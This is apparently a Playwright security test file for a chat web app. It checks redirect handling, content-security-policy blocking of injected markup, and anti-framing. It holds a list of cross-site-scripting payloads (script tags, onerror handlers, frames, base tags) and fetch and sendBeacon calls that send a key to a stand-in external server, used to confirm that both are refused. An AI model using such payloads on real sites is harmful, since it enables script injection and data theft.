/** What strangers try on a person who uses the chat, in Chromium: injected markup, frames, addresses to follow. */
import { expect, test, type Page } from "playwright/test";
import { startChain, type Chain } from "../helpers/chain.ts";
import { parts } from "../helpers/parts.ts";
import { watchComplaints } from "./complaints.ts";
import { startElsewhere, startTampered } from "./servers.ts";

test.skip(parts.caddy === undefined || parts.chromium === undefined, "a part is missing");

let chain: Chain;
let stack: AsyncDisposableStack;

test.beforeAll(async () => {
  stack = new AsyncDisposableStack();
  chain = stack.adopt(await startChain({ engine: "demo" }), (each) => each.close());
});

test.afterAll(() => stack.disposeAsync());

test.describe("signing in", () => {
  const chat = "/c/some_Chat-1";

  async function useKey(page: Page): Promise<void> {
    await page.getByLabel("Access key").fill(chain.accessKey);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.locator("html[data-ready]").waitFor();
  }

  test("leads back to the chat that was asked for", async ({ page }) => {
    await page.goto(chain.app.url + chat);
    expect(page.url()).toBe(`${chain.app.url}/sign-in?to=${chat}`);
    await useKey(page);
    expect(page.url()).toBe(chain.app.url + chat);
  });

  test("does so by a link with a key, which leaves the address", async ({ page }) => {
    await page.goto(`${chain.app.url}/sign-in?to=${chat}#${chain.accessKey}`);
    await page.locator("html[data-ready]").waitFor();
    expect(page.url()).toBe(chain.app.url + chat);
  });

  test("follows no address but ours", async ({ page }) => {
    const elsewhere = stack.adopt(await startElsewhere("caught"), (each) => each.close());
    const to = elsewhere.url.replace("http:", "");
    await page.goto(`${chain.app.url}/sign-in?to=${to}`);
    await useKey(page);
    expect(page.url()).toBe(`${chain.app.url}/`);
    expect(elsewhere.asked).toEqual([]);
  });
});

/** What somebody might get into a page of ours, each thing to break or to carry something out. */
function everyTrick(elsewhere: string): string {
  return [
    "<script>globalThis.broken = 1</script>",
    '<script nonce="">globalThis.broken = 1</script>',
    `<script src="${elsewhere}/script"></script>`,
    '<script src="data:text/javascript,globalThis.broken = 1"></script>',
    '<img src="data:," onerror="globalThis.broken = 1" alt="">',
    `<img src="${elsewhere}/image" alt="">`,
    `<link rel="stylesheet" href="${elsewhere}/style">`,
    `<style>body { background: url("${elsewhere}/background"); }</style>`,
    `<iframe src="${elsewhere}/frame" title=""></iframe>`,
    '<iframe srcdoc="<script>parent.broken = 1</script>" title=""></iframe>',
    `<object data="${elsewhere}/object"></object>`,
    `<base href="${elsewhere}/">`,
  ].join("");
}

test("what gets into a page runs nothing and reaches nobody", async ({ page }) => {
  const elsewhere = stack.adopt(await startElsewhere("globalThis.broken = 1"), (each) =>
    each.close(),
  );
  const tampered = stack.adopt(
    await startTampered(chain.app.url, everyTrick(elsewhere.url)),
    (each) => each.close(),
  );
  await page.goto(`${tampered.url}/sign-in`, { waitUntil: "networkidle" });
  await expect(page.locator("object")).toHaveCount(1);
  // Our own scripts did run.
  await expect(page.getByRole("button", { name: "Sign in" })).toBeEnabled();
  const refused = await page.evaluate(async (url) => {
    const tries = [
      fetch(`${url}/fetch`),
      fetch(`${url}/plain`, { method: "POST", mode: "no-cors", body: "the key" }),
    ];
    const outcomes = await Promise.allSettled(tries);
    navigator.sendBeacon(`${url}/beacon`, "the key");
    return outcomes.map(({ status }) => status);
  }, elsewhere.url);
  expect(refused).toEqual(["rejected", "rejected"]);
  const sinks = await page.evaluate((url) => {
    const tries: readonly (() => unknown)[] = [
      () => document.body.insertAdjacentHTML("beforeend", "<b>bold</b>"),
      () => document.write("<b>bold</b>"),
      () => new DOMParser().parseFromString("<b>bold</b>", "text/html"),
      () => Object.assign(document.createElement("script"), { src: `${url}/late` }),
      () => Object.assign(document.createElement("script"), { src: "/api/health" }),
      () => Object.assign(document.createElement("script"), { text: "globalThis.broken = 1" }),
    ];
    return tries.map((attempt) => {
      try {
        attempt();
        return "let through";
      } catch (error) {
        return error instanceof TypeError ? "refused" : String(error);
      }
    });
  }, elsewhere.url);
  expect(sinks).toEqual(sinks.map(() => "refused"));
  expect(await page.evaluate(() => Reflect.has(globalThis, "broken"))).toBe(false);
  expect(await page.evaluate(() => document.baseURI)).toBe(`${tampered.url}/sign-in`);
  expect(elsewhere.asked).toEqual([]);
});

test("no page elsewhere shows one of ours in a frame", async ({ page }) => {
  const frame = `<iframe src="${chain.app.url}/sign-in" title="framed"></iframe>`;
  const elsewhere = stack.adopt(await startElsewhere(frame), (each) => each.close());
  const complaints = await watchComplaints(page);
  await page.goto(elsewhere.url, { waitUntil: "networkidle" });
  await expect(page.frameLocator("iframe").getByRole("main")).toHaveCount(0);
  expect(complaints.join("\n")).toContain("frame-ancestors 'none'");
});
